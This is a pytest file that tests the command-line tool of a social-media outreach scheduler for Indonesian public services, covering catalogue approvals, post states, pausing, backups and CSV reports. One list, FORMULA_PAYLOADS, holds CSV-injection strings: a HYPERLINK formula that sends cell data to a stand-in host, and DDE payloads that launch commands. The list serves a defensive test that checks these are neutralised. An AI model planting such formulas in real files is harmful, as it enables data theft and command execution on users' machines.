"""Operator commands end to end through the CLI, on a private copy of the bundled example."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from outreach.app import Workspace
from outreach.cli import cli
from outreach.clock import FixedClock
from outreach.config import load_config
from outreach.model import PostState
from outreach.outbox import Operation
from outreach.rehearsal import rehearsal_config
from tests.engine_helpers import settle_as

REPO = Path(__file__).parent.parent
NOW = "2026-12-01T08:00+07:00"
POST_KEYS = {
    "id",
    "when",
    "campaign",
    "channel",
    "innovation_id",
    "kind",
    "text",
    "link",
    "image",
    "state",
    "attempts",
    "reason",
    "remote_id",
    "remote_url",
    "published_at",
}


@pytest.fixture
def config(tmp_path: Path) -> Path:
    shutil.copytree(REPO / "config", tmp_path / "config")
    return tmp_path / "config" / "outreach.toml"


def run(config: Path, *args: str, now: str = NOW, stdin: str | None = None) -> Result:
    return CliRunner().invoke(cli, ["--config", str(config), "--now", now, *args], input=stdin, catch_exceptions=False)


def queue(config: Path, now: str = NOW) -> list[dict]:
    result = run(config, "queue", "--format", "json", now=now)
    assert result.exit_code == 0, result.output
    return json.loads(result.output)


def test_plan_then_queue_lists_documented_objects(config: Path) -> None:
    assert "planned 109 new posts" in run(config, "plan", "--days", "14").output
    assert "planned 0 new posts, refreshed 0, cancelled 0" in run(config, "plan", "--days", "14").output
    posts = queue(config)
    assert len(posts) == 109
    assert all(set(post) == POST_KEYS for post in posts)
    assert all(post["state"] == "planned" and post["when"].endswith("+07:00") for post in posts)


def test_catalogue_commands_record_who_decided(config: Path) -> None:
    listing = json.loads(run(config, "catalogue", "list", "--format", "json").stdout)  # stderr: the new store
    statuses = {entry["id"]: entry["status"] for entry in listing}
    assert statuses["surat-pengantar-kelurahan-wa"] == "draft"
    assert statuses["lapor-bantuan-sosial"] == "rejected"
    assert (
        run(config, "catalogue", "approve", "surat-pengantar-kelurahan-wa", "--by", "Rina (Diskominfo)").exit_code == 0
    )
    show = run(config, "catalogue", "show", "surat-pengantar-kelurahan-wa").output
    assert "approved" in show and "by Rina (Diskominfo) (current)" in show
    assert (
        run(config, "catalogue", "reject", "bank-sampah-jemput", "--by", "Rina", "--reason", "Jadwal berubah").exit_code
        == 0
    )
    assert run(config, "catalogue", "retire", "bus-sekolah-gratis", "--by", "Andi").exit_code == 0
    rejected = run(config, "catalogue", "list", "--status", "rejected").output
    assert "bank-sampah-jemput" in rejected and "lapor-bantuan-sosial" in rejected
    assert "bus-sekolah-gratis" in run(config, "catalogue", "list", "--status", "retired").output
    unknown = CliRunner().invoke(cli, ["--config", str(config), "catalogue", "approve", "tidak-ada", "--by", "Rina"])
    assert unknown.exit_code == 1 and "no innovation with id tidak-ada" in unknown.output


def test_withdrawing_approval_cancels_future_posts_with_the_reason(config: Path) -> None:
    run(config, "plan")
    target = queue(config)[0]["innovation_id"]
    run(config, "catalogue", "reject", target, "--by", "Rina", "--reason", "Belum siap")
    assert "cancelled" in run(config, "plan").output
    assert all(post["innovation_id"] != target for post in queue(config))
    history = json.loads(run(config, "history", "--format", "json").output)
    cancelled = [post for post in history if post["innovation_id"] == target]
    assert cancelled and all(
        post["state"] == "cancelled" and "no longer approved" in post["reason"] for post in cancelled
    )


def test_post_show_cancel_retry_resolve_and_confirm(config: Path) -> None:
    run(config, "plan")
    first, second = queue(config)[:2]
    show = run(config, "post", "show", str(first["id"])).output
    assert first["text"] in show and "· → planned" in show

    assert run(config, "post", "cancel", str(first["id"]), "--reason", "Acara ditunda").exit_code == 0
    again = CliRunner().invoke(cli, ["--config", str(config), "post", "cancel", str(first["id"])])
    assert again.exit_code == 1 and "works only for: planned, failed, missed" in again.output
    retry = CliRunner().invoke(cli, ["--config", str(config), "post", "retry", str(first["id"])])
    assert retry.exit_code == 1 and "cancelled" in retry.output

    # Publish the 09.00 slot; a published post cannot be resolved.
    assert "published" in run(config, "run", "--once", now="2026-12-01T09:00:30+07:00").output
    history = json.loads(run(config, "history", "--format", "json").output)
    published = [post for post in history if post["state"] == "published"]
    assert published and all(post["remote_url"] and post["published_at"] for post in published)
    not_unknown = CliRunner().invoke(
        cli, ["--config", str(config), "post", "resolve", str(published[0]["id"]), "--not-published"]
    )
    assert not_unknown.exit_code == 1 and "only for: unknown" in not_unknown.output
    neither = CliRunner().invoke(cli, ["--config", str(config), "post", "resolve", str(published[0]["id"])])
    assert neither.exit_code == 2

    # An ambiguous outcome and a hand-off, as the publisher would leave them (on posts still planned).
    ws = Workspace(load_config(config), FixedClock(datetime(2026, 12, 1, 2, 0, tzinfo=UTC)))
    second = queue(config)[0]
    settle_as(ws.store, second["id"], PostState.UNKNOWN, ws.now(), "ambiguous: no answer within 30 s")
    third = queue(config)[0]
    settle_as(ws.store, third["id"], PostState.HANDED_OFF, ws.now(), "handed off to staff")
    ws.close()
    url = "https://x.com/kominfobdl/status/1"
    assert run(config, "post", "resolve", str(second["id"]), "--published", url).exit_code == 0
    assert run(config, "post", "confirm", str(third["id"]), "--url", "https://whatsapp.com/channel/x").exit_code == 0
    settled = {post["id"]: post for post in json.loads(run(config, "history", "--format", "json").output)}
    assert settled[second["id"]]["state"] == "published" and settled[second["id"]]["remote_url"] == url
    assert settled[third["id"]]["state"] == "published" and settled[third["id"]]["published_at"]
    events = run(config, "post", "show", str(second["id"])).output
    assert "unknown → published" in events and "resolved by an operator" in events

    # A failed post is planned again, due now, by `post retry`.
    ws = Workspace(load_config(config), FixedClock(datetime(2026, 12, 1, 2, 0, tzinfo=UTC)))
    fourth = queue(config)[0]
    settle_as(ws.store, fourth["id"], PostState.FAILED, ws.now(), "AuthError: token expired")
    ws.close()
    assert run(config, "post", "retry", str(fourth["id"])).exit_code == 0
    retried = next(post for post in queue(config) if post["id"] == fourth["id"])
    assert retried["state"] == "planned" and retried["attempts"] == 0


def test_history_csv_is_an_evidence_report(config: Path) -> None:
    run(config, "rehearse", "--from", "2026-12-01", "--days", "3")
    result = run(config, "--rehearsal", "history", "--from", "2026-12-02", "--to", "2026-12-02", "--format", "csv")
    assert result.output.startswith("\ufeff")  # Excel knows it is UTF-8
    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"))))
    assert rows and set(rows[0]) == POST_KEYS | {"innovation_name", "agency"}
    assert all(row["when"].startswith("2026-12-02") and row["state"] == "published" for row in rows)
    assert all(row["remote_url"] and row["text"] for row in rows)
    rehearsal = Workspace(rehearsal_config(load_config(config)))
    catalogue = {entry.innovation.id: entry.innovation for entry in rehearsal.store.catalogue()}
    rehearsal.close()
    assert all(row["innovation_name"] == catalogue[row["innovation_id"]].nama for row in rows)
    assert all(row["agency"] == catalogue[row["innovation_id"]].opd for row in rows)


def test_history_csv_for_excel_in_an_indonesian_locale_is_separated_by_semicolons(config: Path) -> None:
    run(config, "rehearse", "--from", "2026-12-01", "--days", "1")
    result = run(config, "--rehearsal", "history", "--format", "csv", "--delimiter", ";")
    assert result.exit_code == 0, result.output
    header, *lines = result.output.removeprefix("\ufeff").splitlines()
    assert header.startswith("id;when;campaign;channel;innovation_id;innovation_name;agency;") and lines
    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff")), delimiter=";"))
    assert rows and all(row["agency"] and row["state"] == "published" for row in rows)


#: What a hostile catalogue row, platform answer or operator could put at the start of a cell; a
#: spreadsheet opening the report would run each as a formula (OWASP, "CSV Injection").
FORMULA_PAYLOADS = [
    '=HYPERLINK("https://contoh.invalid/curi?d="&A1,"Klik untuk detail")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_history_csv_never_hands_a_spreadsheet_a_formula(config: Path) -> None:
    run(config, "plan", "--days", "14")
    ws = Workspace(load_config(config), FixedClock(datetime(2026, 12, 1, 1, 0, tzinfo=UTC)))
    posts = ws.store.posts([PostState.PLANNED])[: len(FORMULA_PAYLOADS)]
    for post, payload in zip(posts, FORMULA_PAYLOADS):
        ws.store.transition(post.id, Operation.REFRESH, ws.now(), "the catalogue changed", text=payload)
        ws.store.transition(post.id, Operation.CLAIM, ws.now(), "claimed", attempts=3)
        ws.store.transition(
            post.id,
            Operation.PUBLISHED,
            ws.now(),
            payload,
            remote_id=payload,
            remote_url=payload,
            published_at=ws.now(),
        )
    ws.close()

    result = run(config, "history", "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"), newline=""))}
    for post, payload in zip(posts, FORMULA_PAYLOADS):
        row = rows[str(post.id)]
        for column in ("text", "reason", "remote_id", "remote_url"):
            assert row[column] == "'" + payload, (column, row[column])
        assert row["attempts"] == "3"  # a number stays a number
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())


def test_pause_status_resume_and_backup(config: Path, tmp_path: Path) -> None:
    run(config, "plan")
    assert "paused: Hari berkabung" in run(config, "pause", "--reason", "Hari berkabung").output
    status = run(config, "status").output
    assert "PAUSED" in status and "Hari berkabung" in status and "planned 109" in status
    paused_run = run(config, "run", "--once", now="2026-12-01T09:00:30+07:00").output
    assert "paused (Hari berkabung): nothing published" in paused_run
    assert run(config, "resume").output.strip() == "resumed"
    assert "publishing: active" in run(config, "status").output

    backup = tmp_path / "cadangan.sqlite3"
    assert run(config, "db", "backup", str(backup)).exit_code == 0
    with sqlite3.connect(backup) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert connection.execute("SELECT count(*) FROM posts").fetchone() == (109,)


def test_lint_text_reads_standard_input_and_fails_on_errors(config: Path) -> None:
    bad = run(config, "lint-text", "-", stdin="Dalam rangka optimalisasi layanan, pemohon membawa berkas.\n")
    assert bad.exit_code == 1
    assert "'Dalam rangka' opens like an official letter" in bad.output and "pemohon" in bad.output
    good = run(config, "lint-text", "-", stdin="Urus KTP kini selesai dalam satu hari. Datang ke kantor kelurahan.\n")
    assert good.exit_code == 0, good.output
